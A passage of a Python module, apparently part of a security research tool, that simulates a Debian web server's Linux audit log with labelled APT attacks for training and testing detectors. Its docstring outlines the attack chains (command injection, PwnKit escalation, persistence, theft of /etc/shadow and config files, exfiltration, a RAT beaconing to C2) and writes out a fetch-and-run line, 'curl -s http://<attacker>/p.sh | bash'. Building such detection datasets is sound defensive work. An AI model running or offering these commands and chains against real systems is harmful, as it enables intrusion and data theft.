"""A seeded simulator of a small Debian web server's Linux audit log, with labelled APT attacks.

The offline default dataset of APTSHIELD. :func:`generate` simulates one host at
the level of the kernel and writes what ``auditd`` would write, line by line, in
the raw ``/var/log/audit/audit.log`` format (so that :mod:`.audit` is exercised
end to end); :class:`Truth` says which processes, time ranges, addresses and
files belong to each injected attack. :func:`write_log` writes a log file and
its ``.truth.json``.

The simulation (``_Sim``) keeps a process table (pid, ppid, uids, auid/session,
tty, exe, comm, argv, cwd, fd table with close-on-exec flags), a file system
(path → inode, device, mode, owner; created, truncated, renamed and unlinked as
the processes do it) and emits the system calls a real process would make, so
the log is *consistent*: every ``read``/``write``/``sendto``/``recvfrom``/``close``
uses an fd that process opened (``openat`` with ``PATH`` items and ``exit=fd``,
``socket`` + ``connect`` with ``SOCKADDR``, ``accept4``, ``pipe2`` with ``FD_PAIR``,
``memfd_create``, ``dup2`` for shell redirections) or inherited; ``clone`` returns
the child's pid and the child's first record names the parent as ``ppid``;
``execve`` has ``EXECVE`` + ``CWD`` + ``PATH`` (image, ``#!`` interpreter, loader) +
``PROCTITLE`` and drops the close-on-exec fds; every process ends with
``exit_group``; orphans are re-parented to pid 1.

Deliberate choices (all documented here so they can be checked):

* **Time and order.** Activities are Python generators ("coroutines") scheduled
  on a heap by wake-up time; each runs a *burst* of system calls and yields the
  delay until its next burst. Every system call advances the clock by
  20–420 µs, so timestamps never decrease and serials increase by one per event
  (kernel and user-space records share the serial counter, as in the kernel).
  Attacks are coroutines on the same heap: their steps are separated by seconds
  to minutes and benign activity always runs in between.
* **Records.** Kernel order: ``SYSCALL``, ``EXECVE``, ``FD_PAIR``, ``SOCKADDR``,
  ``MMAP``, ``CWD`` (whenever there are ``PATH`` items), ``PATH``…, ``PROCTITLE``,
  ``EOE``. Values are quoted, or bare uppercase hex when they contain a byte
  ``<= 0x20``, ``>= 0x7f`` or ``"`` (the kernel's rule); ``PROCTITLE`` is always hex
  (argv joined by NUL, truncated to 128 bytes as the kernel does).
  ``exit_group`` records have no ``success=``/``exit=`` (the call never returns).
  ``O_CREAT`` opens, ``unlink`` and ``rename`` carry ``PARENT`` items (the directory
  part with its trailing ``/``, or the cwd for a relative name); a rename over an
  existing file has five items (``PARENT``, ``PARENT``, ``DELETE`` old name,
  ``DELETE`` replaced target, ``CREATE`` new name). A failed open of a missing
  file has one ``nametype=UNKNOWN`` item without inode; a denied one
  (``EACCES``) has the file's item. ``memfd_create`` has no ``PATH`` (the kernel does
  not log its name); the image of ``execve("/proc/self/fd/N")`` is ``exe="/memfd:NAME
  (deleted)"`` (hex) and ``comm`` is ``N``. PwnKit's ``pkexec`` has ``argc=0`` and an
  empty ``proctitle=``. Paths resolve symlinks
  for ``exe=`` (``/bin/sh`` runs ``/usr/bin/dash``) while ``PATH`` names keep what
  the program passed (relative names included: tar ``-C``, make, vim).
  User-space records (PAM ``USER_*``/``CRED_*``, ``LOGIN``, ``USER_CMD``,
  ``SERVICE_START``) are single records with no ``EOE``, as ``auditd`` writes
  them. A fraction ``missing_eoe_fraction`` of kernel events lose their ``EOE``
  and a fraction ``interleave_fraction`` is riffled with the next event's records
  (both as under load) when the two come from unrelated processes (as records of
  tasks running on different CPUs; one task's system calls never overlap, so a
  process's events stay in order); the first record of an event still precedes
  the first record of the next, so serials increase in order of first appearance.
* **Determinism and speed.** One ``numpy`` ``Generator`` per stream
  (``default_rng([seed, 0])`` for the simulation, ``[seed, 1]`` for the
  rendering choices), drawn in blocks of 8192 uniforms (a Python float per
  draw costs ~50 ns); the clock is a float and is formatted with ``%.3f``. The
  simulation builds compact event tuples; text is produced only when rendered.
* **Truth up front.** :func:`generate` first runs the simulation without
  rendering text (a dry run: 0.9 s of the 2.9 s it takes to produce the 1.5M
  lines of the default preset on one core), which
  fills the :class:`Truth` completely (attack pids, steps with serials, line and
  event counts), then returns a lazy iterator that re-runs the same seeded
  simulation and renders it: the Truth is complete before the first line is
  read. :func:`write_log` needs one pass only (the Truth is written after the log).
* **Boot.** With ``HostConfig.boot`` (default) the log starts when the services
  start: only systemd (pid 1) pre-exists and every fd is opened in the log. With
  ``boot=False`` the daemons pre-exist (their fds were opened before the log
  starts, as in a log cut from a running host) and are declared in
  ``Truth.initial_processes``; pids, sessions and serials then start high (an
  uptime of days). Pids increase by one per process, sometimes skipping a few;
  ``CLONE_THREAD`` clones (git) take a tid from the same counter and their threads
  end with ``exit`` (60), processes with ``exit_group``.
* **Labels.** An attack's pids are the processes it created (and their
  descendants, the tag is inherited on fork); the long-lived benign processes it
  came through (the nginx/php-fpm worker that served the exploit, the sshd
  listener that accepted the stolen login) are ``entry_pids``: they keep serving
  benign requests, so they are not attack pids. ``start_ts`` is the attacker's
  first contact, ``end_ts`` the attack's last event. Persistence is planted but
  never triggered within the log (cron is not simulated re-reading
  ``/etc/cron.d``).

Benign behaviour (rates in :class:`HostConfig`): nginx master/workers accepting
clients from 203.0.113.0/24 and 198.51.100.0/24 (keep-alive, static files incl.
names with spaces/non-ASCII, 404s from scanners, an access-log ``write`` per
request), PHP through php-fpm over a unix socket (scripts, ``config.php``, session
files, MariaDB over its unix socket); cron (a www-data PHP job; logrotate
renaming/compressing/unlinking logs and making nginx reopen them; a backup script
tar-ing ``/var/www`` into ``/var/backups`` and ``scp``-ing it to 10.0.0.5,
deleting old backups); apt-daily-upgrade (the http method fetching from a
151.101.x.x mirror into ``/var/cache/apt/archives``, dpkg unpacking into
``/usr/bin``/``/usr/lib``, ``fchmod 755``, renaming over old files, running the
downloaded ``postinst`` and ``ldconfig``); ssh sessions of admins from 10.8.0.0/24
(PAM records, sshd privilege separation, a bash on a pty set up with ``dup2``;
ls, cat, vim, git pull from 10.0.3.15, ``sudo systemctl restart nginx`` which
really restarts nginx, ``cat /etc/passwd``, id, ps, ``crontab -e``, make); a
GitLab runner polling 10.0.3.15 and running CI jobs (git fetch with threads,
half of them ``curl``-ing a linter release from github.com/185.199.108.133 into
``/tmp``, ``chmod +x`` and running it, then make → gcc → cc1/as/ld, ``chmod +x``,
running the fresh test binary). Several of these deliberately look like attack
steps: download → chmod → execute (dpkg postinst, CI), reads of ``/etc/passwd``
(sshd, id, cat) and ``config.php`` (php), persistence-like writes (crontab -e),
``curl`` to a public address (the backup's hc-ping.com health check), pipes
into a shell-like reader (tar | gzip, scp/ssh).

Attacks (:class:`AttackSpec`; the variant is drawn from the seed unless given):

* ``web_exploit`` (variant = persistence: ``cron`` | ``bashrc`` | ``systemd``):
  a request from a 45.x/185.x address to a vulnerable PHP endpoint; the php-fpm
  worker ``popen``\\ s ``sh -c`` (command injection) → ``curl`` downloads
  ``/tmp/.cache/x`` → ``chmod +x`` → the implant runs and daemonises; for the root
  persistences it escalates with PwnKit (``pkexec`` with ``argc=0`` loading a
  ``GCONV_PATH`` module → a root shell fed through a pipe); writes the
  persistence; reads ``/etc/passwd``, ``/etc/shadow`` (denied without root),
  ``/var/www/config.php``; tars them into ``/tmp/.cache/d.tgz`` (a second attack of
  the kind uses ``/tmp/.cache-<random>``); exfiltrates to
  the attacker on 443 or 8080 and deletes the archive.
* ``fileless`` (variant = entry: ``ssh`` | ``web``): from an ssh login with
  stolen credentials (password, user ``deploy``) or from the web worker,
  ``curl -s http://<attacker>/p.sh | bash`` (pipe2 + fork + dup2 + execve, no file
  written); the script starts python3 which downloads a payload into a
  ``memfd_create`` fd and ``execve``\\ s ``/proc/self/fd/N`` (``exe=/memfd:… (deleted)``);
  the payload runs ``id``, ``uname -a``, reads ``/etc/passwd`` and talks to the
  attacker's C2.
* ``rat`` (variant = entry: ``ssh`` | ``web``): ``wget`` drops a binary in
  ``/var/tmp`` or ``/dev/shm``, ``chmod +x``, ``nohup … >/dev/null 2>&1 &``; the RAT
  installs a user systemd unit or a crontab (``crontab -``), then beacons to its
  C2 every ``rat_beacon_s`` ± ``rat_jitter_s`` (connect, send, recv) and sometimes
  runs a command through ``sh -c`` and sends its output; it exits after
  ``rat_beacons`` beacons.
"""

from __future__ import annotations

import bisect
import dataclasses
import heapq
import itertools
import json
import math
import os
import posixpath
import re
import time
from collections.abc import Iterator

import numpy as np

# --- constants --------------------------------------------------------------------
O_RDONLY, O_WRONLY, O_RDWR = 0, 1, 2
O_CREAT, O_EXCL, O_NOCTTY, O_TRUNC, O_APPEND = 0x40, 0x80, 0x100, 0x200, 0x400
O_NONBLOCK, O_DIRECTORY, O_CLOEXEC = 0x800, 0x10000, 0x80000
_AT_FDCWD = 0xFFFFFF9C  # -100 as the kernel logs it
_UNSET = 4294967295  # auid / ses never set
_FORK_FLAGS = 0x1200011  # glibc fork(): CLONE_CHILD_SETTID|CLONE_CHILD_CLEARTID|SIGCHLD
_SPAWN_FLAGS = 0x4111  # posix_spawn(): CLONE_VM|CLONE_VFORK|SIGCHLD
_THREAD_FLAGS = 0x3D0F00  # pthread_create(): ... CLONE_THREAD ...
_LOADER = "/lib64/ld-linux-x86-64.so.2"
_LIBC = "/lib/x86_64-linux-gnu/libc.so.6"

# Audit rule keys, by syscall number (a rule file with one key per rule group).
_KEY = dict.fromkeys((59, 322), '"exec"')
_KEY.update(dict.fromkeys((56, 57, 58, 435), '"proc"'))
_KEY.update(dict.fromkeys((60, 231), "(null)"))
_KEY.update(dict.fromkeys((0, 1, 17, 18, 19, 20), '"io"'))
_KEY.update(dict.fromkeys((2, 257, 3), '"file"'))
_KEY.update(dict.fromkeys((41, 42, 43, 288, 44, 45, 46, 47), '"net"'))
_KEY.update(dict.fromkeys((87, 263, 82, 264, 316), '"delete"'))
_KEY.update(dict.fromkeys((90, 91, 268), '"perm"'))
_KEY.update(dict.fromkeys((22, 293, 32, 33, 292), '"fd"'))
_KEY.update({319: '"memfd"', 9: '"mmap"'})

# Symlinks resolved for exe= (Debian 12, merged /usr).
_REAL = {
    "/bin/sh": "/usr/bin/dash",
    "/usr/bin/sh": "/usr/bin/dash",
    "/bin/bash": "/usr/bin/bash",
    "/usr/bin/python3": "/usr/bin/python3.11",
    "/usr/bin/vim": "/usr/bin/vim.basic",
    "/usr/bin/gcc": "/usr/bin/x86_64-linux-gnu-gcc-12",
    "/usr/bin/as": "/usr/bin/x86_64-linux-gnu-as",
    "/usr/bin/ld": "/usr/bin/x86_64-linux-gnu-ld.bfd",
    "/usr/bin/awk": "/usr/bin/mawk",
    "/bin/tar": "/usr/bin/tar",
    "/bin/gzip": "/usr/bin/gzip",
    "/sbin/ldconfig": "/usr/sbin/ldconfig",
    "/usr/bin/editor": "/usr/bin/vim.basic",
}

USERS = {  # name: (uid, gid, home)
    "root": (0, 0, "/root"),
    "www-data": (33, 33, "/var/www"),
    "_apt": (42, 65534, "/nonexistent"),
    "mysql": (106, 112, "/nonexistent"),
    "gitlab-runner": (998, 998, "/home/gitlab-runner"),
    "alice": (1000, 1000, "/home/alice"),
    "bob": (1001, 1001, "/home/bob"),
    "deploy": (1002, 1002, "/home/deploy"),
}
_UID_HOME = {uid: home for uid, _, home in USERS.values()}
_CRONTAB_GID = 107

# The web site: (path under /var/www/html, weight, size); size 0 = missing (404).
_STATIC = (
    ("index.html", 20, 5210),
    ("about.html", 5, 7400),
    ("css/site.css", 14, 18200),
    ("js/app.js", 14, 41800),
    ("js/vendor.min.js", 8, 88100),
    ("img/logo.png", 10, 12400),
    ("img/hero.jpg", 6, 152000),
    ("img/team photo.jpg", 3, 98000),
    ("uploads/menü-2023.pdf", 2, 230400),
    ("uploads/price list.pdf", 2, 118000),
    ("robots.txt", 4, 68),
    ("sitemap.xml", 2, 2900),
    ("blog/index.html", 5, 9100),
    ("blog/2023-10-spring.html", 3, 11200),
    ("blog/2023-11-launch.html", 3, 10800),
    ("favicon.ico", 8, 0),
    ("wp-login.php", 2, 0),
    (".env", 1, 0),
    ("phpmyadmin/index.php", 1, 0),
)
_PHP = (
    ("index.php", 30),
    ("search.php", 15),
    ("login.php", 10),
    ("cart.php", 10),
    ("api/items.php", 25),
    ("api/export.php", 3),
)
_WWW_EXTRA = (
    "/var/www/config.php",
    "/var/www/html/lib/db.php",
    "/var/www/html/lib/auth.php",
    "/var/www/html/lib/util.php",
    "/var/www/html/cron.php",
)
_CLIENT_NETS = ("203.0.113.", "198.51.100.")
_MIRRORS = ("151.101.2.132", "151.101.66.132", "151.101.130.132", "151.101.194.132")
_BACKUP_HOST = "10.0.0.5"
_GITHUB = "140.82.121.3"  # github.com
_GITHUB_CDN = "185.199.108.133"  # objects.githubusercontent.com: a benign 185.x address
_HEALTHCHECK = "159.69.66.172"  # hc-ping.com
_GITLAB = "10.0.3.15"
_PACKAGES = (  # (name, version, files installed)
    (
        "libssl3",
        "3.0.11-1~deb12u2",
        ("/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/x86_64-linux-gnu/libcrypto.so.3"),
    ),
    ("openssl", "3.0.11-1~deb12u2", ("/usr/bin/openssl", "/usr/bin/c_rehash")),
    ("curl", "7.88.1-10+deb12u5", ("/usr/bin/curl",)),
    ("libcurl4", "7.88.1-10+deb12u5", ("/usr/lib/x86_64-linux-gnu/libcurl.so.4.8.0",)),
    (
        "sudo",
        "1.9.13p3-1+deb12u1",
        ("/usr/bin/sudo", "/usr/bin/sudoreplay", "/usr/lib/sudo/sudoers.so"),
    ),
    ("bind9-host", "1:9.18.19-1~deb12u1", ("/usr/bin/host",)),
    ("xxd", "2:9.0.1378-2", ("/usr/bin/xxd",)),
    (
        "tzdata",
        "2024a-0+deb12u1",
        ("/usr/share/zoneinfo/Europe/Paris", "/usr/share/zoneinfo/America/New_York"),
    ),
    ("libxml2", "2.9.14+dfsg-1.3~deb12u1", ("/usr/lib/x86_64-linux-gnu/libxml2.so.2.9.14",)),
)
_PROJECT_SRC = ("main.c", "parser.c", "util.c", "hash.c", "net.c")
_HEADERS = (
    "/usr/include/stdio.h",
    "/usr/include/stdlib.h",
    "/usr/include/string.h",
    "/usr/include/x86_64-linux-gnu/bits/types.h",
    "/usr/include/x86_64-linux-gnu/sys/types.h",
)
_PY_MODULES = ("os.py", "socket.py", "selectors.py", "enum.py", "base64.py", "struct.py")
_ATTACK_KINDS = ("web_exploit", "fileless", "rat")
_VARIANTS = {
    "web_exploit": ("cron", "bashrc", "systemd"),
    "fileless": ("ssh", "web"),
    "rat": ("ssh", "web"),
}


# --- encoding ---------------------------------------------------------------------
_NEEDS_HEX = re.compile(r"[^!#-~]")  # anything but 0x21 and 0x23..0x7e
_ENC: dict[str, str] = {}


def encode_value(s: str) -> str:
    """An audit text value: ``"s"``, or bare uppercase hex of the UTF-8 bytes.

    Hex when ``s`` has a byte ``<= 0x20`` (space, control), ``>= 0x7f`` (non-ASCII)
    or a double quote, as the kernel's ``audit_log_untrustedstring`` does.
    """
    v = _ENC.get(s)
    if v is None:
        v = s.encode().hex().upper() if _NEEDS_HEX.search(s) else f'"{s}"'
        if len(_ENC) < 100_000:
            _ENC[s] = v
    return v


def proctitle_hex(argv: list[str] | tuple[str, ...]) -> str:
    """``PROCTITLE`` value: argv joined by NUL, truncated to 128 bytes, uppercase hex."""
    return "\0".join(argv).encode()[:128].hex().upper()


def sockaddr_hex(ip: str, port: int) -> str:
    """``SOCKADDR saddr=`` of an AF_INET address (16 bytes, port big-endian)."""
    a, b, c, d = (int(x) for x in ip.split("."))
    return f"0200{port:04X}{a:02X}{b:02X}{c:02X}{d:02X}0000000000000000"


def unix_sockaddr_hex(path: str) -> str:
    """``SOCKADDR saddr=`` of an AF_UNIX path (``0100`` + path + NUL); ``0100`` unnamed."""
    return "0100" + (path.encode().hex().upper() + "00" if path else "")


# --- random numbers ---------------------------------------------------------------
class _Rand:
    """Block-drawn uniforms from a numpy Generator (fast scalar draws, deterministic)."""

    __slots__ = ("_gen", "_buf")

    def __init__(self, gen: np.random.Generator):
        self._gen = gen
        self._buf: list[float] = []

    def u(self) -> float:
        buf = self._buf
        if not buf:
            buf.extend(self._gen.random(8192).tolist())
        return buf.pop()

    def below(self, n: int) -> int:
        return int(self.u() * n)

    def between(self, lo: int, hi: int) -> int:
        """Uniform integer in ``[lo, hi]``."""
        return lo + int(self.u() * (hi - lo + 1))

    def choice(self, seq):
        return seq[int(self.u() * len(seq))]

    def expo(self, mean: float) -> float:
        return -mean * math.log(1.0 - self.u())

    def chance(self, p: float) -> bool:
        return self.u() < p

    def weighted(self, items, cum):
        """``items[i]`` with probability proportional to ``cum[i] - cum[i-1]``."""
        return items[bisect.bisect_right(cum, self.u() * cum[-1])]

    def token(
        self,
        n: int,
        alphabet: str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
    ) -> str:
        return "".join(alphabet[int(self.u() * len(alphabet))] for _ in range(n))


# --- configuration ----------------------------------------------------------------
@dataclasses.dataclass(frozen=True)
class AttackSpec:
    """One injected attack.

    Attributes:
      kind: ``"web_exploit"``, ``"fileless"`` or ``"rat"``.
      start_s: seconds after the log start of the attacker's first contact.
      variant: ``""`` to draw it from the seed, else (web_exploit) the persistence
        ``"cron"``/``"bashrc"``/``"systemd"``, (fileless, rat) the entry ``"ssh"``/``"web"``.
    """

    kind: str
    start_s: float
    variant: str = ""


@dataclasses.dataclass(frozen=True)
class HostConfig:
    """The simulated host: duration, benign activity rates, attacks, log quirks.

    Attributes:
      duration_s: simulated seconds; no burst of activity starts after it.
      start_epoch: wall-clock time of the first record (seconds since the epoch).
      boot: the log starts with the services starting (only pid 1 pre-exists);
        ``False``: the daemons pre-exist with fds opened before the log.
      web_rps: new client connections per second (Poisson).
      keepalive_mean: mean requests per connection (>= 1).
      php_fraction: fraction of requests served by PHP (the rest are static).
      db_fraction: fraction of PHP requests that query MariaDB.
      nginx_workers, php_workers: worker processes.
      ssh_per_hour: admin ssh sessions per hour (Poisson).
      ssh_commands_mean: mean commands per session.
      cron_php_period_s: period of the www-data PHP cron job (0 = off).
      logrotate_period_s, backup_period_s, apt_period_s: periods of logrotate,
        the backup script and apt-daily-upgrade (0 = off); first run at a
        random phase.
      ci_poll_s: GitLab runner polling period (0 = no runner).
      ci_builds_per_hour: CI jobs per hour (Poisson).
      attacks: the attacks to inject.
      rat_beacon_s, rat_jitter_s: RAT beacon period and uniform jitter.
      rat_beacons: beacons before the RAT exits.
      rat_command_prob: probability that a beacon brings a command.
      interleave_fraction: probability that an event's records are riffled with the
        next event's, when that one comes from an unrelated process.
      missing_eoe_fraction: kernel events whose ``EOE`` record is lost.
    """

    duration_s: float = 3 * 3600.0
    start_epoch: float = 1_700_000_000.0
    boot: bool = True
    web_rps: float = 1.5
    keepalive_mean: float = 1.8
    php_fraction: float = 0.3
    db_fraction: float = 0.7
    nginx_workers: int = 2
    php_workers: int = 3
    ssh_per_hour: float = 4.0
    ssh_commands_mean: float = 10.0
    cron_php_period_s: float = 300.0
    logrotate_period_s: float = 3600.0
    backup_period_s: float = 5400.0
    apt_period_s: float = 4 * 3600.0
    ci_poll_s: float = 30.0
    ci_builds_per_hour: float = 2.0
    attacks: tuple[AttackSpec, ...] = (
        AttackSpec("web_exploit", 1800.0),
        AttackSpec("fileless", 4500.0),
        AttackSpec("rat", 7200.0),
    )
    rat_beacon_s: float = 60.0
    rat_jitter_s: float = 15.0
    rat_beacons: int = 40
    rat_command_prob: float = 0.3
    interleave_fraction: float = 0.01
    missing_eoe_fraction: float = 0.002

    def __post_init__(self):
        if not self.duration_s > 0:
            raise ValueError(f"duration_s must be > 0, got {self.duration_s}")
        for name in (
            "web_rps",
            "ssh_per_hour",
            "ci_builds_per_hour",
            "cron_php_period_s",
            "logrotate_period_s",
            "backup_period_s",
            "apt_period_s",
            "ci_poll_s",
            "rat_jitter_s",
        ):
            if getattr(self, name) < 0:
                raise ValueError(f"{name} must be >= 0, got {getattr(self, name)}")
        if self.keepalive_mean < 1 or self.ssh_commands_mean < 1:
            raise ValueError("keepalive_mean and ssh_commands_mean must be >= 1")
        if self.nginx_workers < 1 or self.php_workers < 1:
            raise ValueError("at least one nginx and one php-fpm worker")
        for name in (
            "php_fraction",
            "db_fraction",
            "rat_command_prob",
            "interleave_fraction",
            "missing_eoe_fraction",
        ):
            if not 0 <= getattr(self, name) <= 1:
                raise ValueError(f"{name} must be in [0, 1], got {getattr(self, name)}")
        if self.rat_beacon_s <= self.rat_jitter_s or self.rat_beacons < 1:
            raise ValueError("rat_beacon_s must exceed rat_jitter_s and rat_beacons >= 1")
        for a in self.attacks:
            if a.kind not in _ATTACK_KINDS:
                raise ValueError(f"unknown attack kind {a.kind!r}; known: {_ATTACK_KINDS}")
            if a.variant and a.variant not in _VARIANTS[a.kind]:
                raise ValueError(f"{a.kind} variant {a.variant!r} not in {_VARIANTS[a.kind]}")
            if not 0 <= a.start_s < self.duration_s:
                raise ValueError(f"attack start {a.start_s} outside [0, {self.duration_s})")

    @classmethod
    def tiny(cls) -> HostConfig:
        """≈ 20k lines, 6 simulated minutes, one attack of each kind (for tests)."""
        return cls(
            duration_s=360.0,
            web_rps=0.4,
            ssh_per_hour=20.0,
            ssh_commands_mean=5.0,
            cron_php_period_s=120.0,
            logrotate_period_s=300.0,
            backup_period_s=300.0,
            apt_period_s=300.0,
            ci_poll_s=60.0,
            ci_builds_per_hour=6.0,
            attacks=(
                AttackSpec("web_exploit", 30.0),
                AttackSpec("fileless", 110.0),
                AttackSpec("rat", 170.0),
            ),
            rat_beacon_s=30.0,
            rat_jitter_s=8.0,
            rat_beacons=4,
        )

    @classmethod
    def default(cls) -> HostConfig:
        """≈ 1.5M lines, 3 simulated hours, one attack of each kind."""
        return cls()


# --- truth ------------------------------------------------------------------------
@dataclasses.dataclass
class Step:
    """One attack step: its name and the event (time, pid, serial) that shows it."""

    name: str
    ts: float
    pid: int
    serial: int


@dataclasses.dataclass
class AttackTruth:
    """Ground truth of one injected attack.

    Attributes:
      id: ``"<kind>-<index>"``.
      kind, variant: as in :class:`AttackSpec`, the variant as drawn (``rat``:
        ``"<entry>+<persistence>"``, e.g. ``"ssh+cron"``).
      start_ts, end_ts: the attacker's first contact and the attack's last event.
      pids: processes created by the attack (all their events are malicious).
      entry_pids: benign long-lived processes the attack came through.
      attacker_ips: remote addresses controlled by the attacker.
      files_written: files the attack pids created, wrote or renamed to (devices excluded).
      files_read: sensitive files the attack read.
      sockets: remote ends ``"ip:port"`` the attack talked to.
      persistence: the persistence file.
      steps: the attack steps in order.
      n_events: kernel events of the attack pids.
      completed: whether the attack finished before the log ended.
    """

    id: str
    kind: str
    variant: str
    start_ts: float
    end_ts: float
    pids: list[int]
    entry_pids: list[int]
    attacker_ips: list[str]
    files_written: list[str]
    files_read: list[str]
    sockets: list[str]
    persistence: str
    steps: list[Step]
    n_events: int
    completed: bool


@dataclasses.dataclass
class InitialProcess:
    """A process alive before the log starts (its fds were opened before it).

    ``fds`` maps fd → ``"<kind>:<name>"``: ``file:<path>``, ``sock:<ip:port>`` /
    ``sock:unix:<path>``, ``sock:listen:<address>`` (a listening socket),
    ``pipe:pipe:[<inode>]``.
    """

    pid: int
    ppid: int
    uid: int
    exe: str
    comm: str
    cmdline: str
    cwd: str
    fds: dict[int, str]


@dataclasses.dataclass
class Truth:
    """Ground truth of one generated log (JSON round-trip: :meth:`to_json`/:meth:`from_json`).

    Every pid not in some attack's ``pids`` is benign.

    Attributes:
      seed: the generator seed.
      start_ts, end_ts: first and last record times.
      n_lines: lines of the log.
      n_events: kernel (syscall) events.
      n_user_records: single-record user-space events.
      n_processes: processes (initial + created).
      attacks: one :class:`AttackTruth` per injected attack.
      initial_processes: processes alive before the first record.
    """

    seed: int
    start_ts: float
    end_ts: float
    n_lines: int
    n_events: int
    n_user_records: int
    n_processes: int
    attacks: list[AttackTruth]
    initial_processes: list[InitialProcess]

    def attack_pids(self) -> set[int]:
        """Every attack's pids."""
        return {p for a in self.attacks for p in a.pids}

    def to_json(self) -> str:
        return json.dumps(dataclasses.asdict(self), indent=1)

    @classmethod
    def from_json(cls, text: str) -> Truth:
        d = json.loads(text)
        d["attacks"] = [
            AttackTruth(**{**a, "steps": [Step(**s) for s in a["steps"]]}) for a in d["attacks"]
        ]
        d["initial_processes"] = [
            InitialProcess(**{**p, "fds": {int(k): v for k, v in p["fds"].items()}})
            for p in d["initial_processes"]
        ]
        return cls(**d)

    def save(self, path: str | os.PathLike) -> None:
        with open(path, "w") as f:
            f.write(self.to_json())

    @classmethod
    def load(cls, path: str | os.PathLike) -> Truth:
        with open(path) as f:
            return cls.from_json(f.read())


class _Attack:
    """Mutable truth of one attack while it is simulated."""

    __slots__ = (
        "id",
        "kind",
        "variant",
        "ips",
        "pids",
        "entry",
        "files",
        "reads",
        "sockets",
        "persistence",
        "steps",
        "n_events",
        "first_ts",
        "last_ts",
        "done",
    )

    def __init__(self, id_: str, kind: str, variant: str):
        self.id, self.kind, self.variant = id_, kind, variant
        self.ips: list[str] = []
        self.pids: set[int] = set()
        self.entry: set[int] = set()
        self.files: set[str] = set()
        self.reads: set[str] = set()
        self.sockets: set[str] = set()
        self.persistence = ""
        self.steps: list[Step] = []
        self.n_events = 0
        self.first_ts: float | None = None
        self.last_ts = 0.0
        self.done = False

    def truth(self) -> AttackTruth:
        return AttackTruth(
            id=self.id,
            kind=self.kind,
            variant=self.variant,
            start_ts=self.first_ts if self.first_ts is not None else 0.0,
            end_ts=round(self.last_ts, 3),
            pids=sorted(self.pids),
            entry_pids=sorted(self.entry),
            attacker_ips=list(self.ips),
            files_written=sorted(self.files),
            files_read=sorted(self.reads),
            sockets=sorted(self.sockets),
            persistence=self.persistence,
            steps=list(self.steps),
            n_events=self.n_events,
            completed=self.done,
        )


# --- processes and files ----------------------------------------------------------
class _Proc:
    """One simulated process (thread group).

    ``fds`` maps fd → ``(kind, name, cloexec)``; ``tail``/``title`` cache the
    SYSCALL record's ``ppid … subj`` fields and the PROCTITLE value (recomputed by
    :meth:`retail` when they change); ``tag`` is the attack the process belongs
    to; ``x`` holds role data (a worker's log and listening fds, a busy flag).
    """

    __slots__ = (
        "pid",
        "ppid",
        "uid",
        "gid",
        "euid",
        "egid",
        "auid",
        "ses",
        "tty",
        "comm",
        "exe",
        "argv",
        "cwd",
        "fds",
        "tail",
        "title",
        "tag",
        "alive",
        "ptr",
        "children",
        "x",
    )

    def __init__(self, pid, ppid, uid, gid, exe, comm, argv, cwd):
        self.pid, self.ppid = pid, ppid
        self.uid = self.euid = uid
        self.gid = self.egid = gid
        self.auid = self.ses = _UNSET
        self.tty = "(none)"
        self.exe, self.comm, self.argv, self.cwd = exe, comm, argv, cwd
        self.fds: dict[int, tuple[str, str, bool]] = {}  # fd -> (kind, name, cloexec)
        self.tag: _Attack | None = None
        self.alive = True
        self.ptr = 0x7FFC00000000
        self.children: list[_Proc] = []
        self.x: dict = {}
        self.retail()

    def retail(self) -> None:
        """Recomputes the cached SYSCALL tail (ppid … subj) and PROCTITLE value."""
        u, g = self.euid, self.egid
        self.tail = (
            f"ppid={self.ppid} pid={self.pid} auid={self.auid} uid={self.uid} gid={self.gid} "
            f"euid={u} suid={u} fsuid={u} egid={g} sgid={g} fsgid={g} tty={self.tty} "
            f"ses={self.ses} comm={encode_value(self.comm)} exe={encode_value(self.exe)} "
            "subj=unconfined"
        )
        self.title = proctitle_hex(self.argv)


def _dev_of(path: str) -> str:
    if path.startswith("/run/"):
        return "00:19"
    if path.startswith("/dev/shm/"):
        return "00:1a"
    if path.startswith("/dev/pts/"):
        return "00:18"
    if path.startswith("/dev/"):
        return "00:05"
    if path.startswith("/proc/"):
        return "00:16"
    if path.startswith("/memfd:"):
        return "00:01"
    return "08:01"


def _attrs_of(path: str) -> tuple[int, int, int, str]:
    """Mode, owner uid, gid and rdev of a file that exists before the log."""
    if path.startswith("/dev/"):
        if path == "/dev/null":
            return 0o20666, 0, 0, "01:03"
        if path == "/dev/ptmx":
            return 0o20666, 0, 5, "05:02"
        if path.startswith("/dev/pts/"):
            return 0o20620, 0, 5, f"88:{path[9:]}"
    if path.startswith("/home/"):
        user = path.split("/")[2]
        uid, gid, _ = USERS.get(user, (0, 0, ""))
        return 0o100644, uid, gid, "00:00"
    if path.startswith("/var/www/"):
        return (0o100640 if path.endswith("config.php") else 0o100644), 33, 33, "00:00"
    if path.startswith("/var/log/nginx/"):
        return 0o100640, 33, 4, "00:00"
    if path == "/etc/shadow":
        return 0o100640, 0, 42, "00:00"
    if path.startswith("/proc/"):
        return 0o100444, 0, 0, "00:00"
    if (
        path.startswith(
            (
                "/usr/bin/",
                "/usr/sbin/",
                "/usr/lib/gcc/",
                "/usr/lib/apt/methods/",
                "/usr/lib/git-core/",
                "/usr/local/bin/",
                "/lib64/",
                "/usr/lib/systemd/systemd",
                "/var/lib/dpkg/info/",
            )
        )
        or ".so" in path
    ):
        return 0o100755, 0, 0, "00:00"
    return 0o100644, 0, 0, "00:00"


class _SimError(RuntimeError):
    """A simulation invariant was broken (a bug in a scenario, never expected)."""


# --- the simulation ---------------------------------------------------------------
class _Sim:
    """The simulated kernel, services, users and attackers of one host."""

    def __init__(self, cfg: HostConfig, seed: int):
        self.cfg = cfg
        self.seed = seed
        self.r = _Rand(np.random.default_rng([seed, 0]))
        r = self.r
        self.start = cfg.start_epoch + r.u()
        self.now = self.start
        self.end = cfg.start_epoch + cfg.duration_s
        self.serial = 1000 + r.below(90000)
        self.next_pid = 300 + r.below(100)
        self.next_ino = 1_000_000 + r.below(2_000_000)
        self.next_pipe = 20_000 + r.below(10_000)
        self.next_ses = 1 + r.below(4)
        self.missing_eoe = cfg.missing_eoe_fraction
        self.fs: dict[str, tuple] = {}  # path -> (ino, mode, uid, gid, pre)
        self.missing: set[str] = set()
        self.procs: dict[int, _Proc] = {}
        self.out: list[tuple] = []
        self.heap: list = []
        self.heap_seq = itertools.count()
        self.silent = False
        self.last_pid = 0
        self.last_ts = self.start
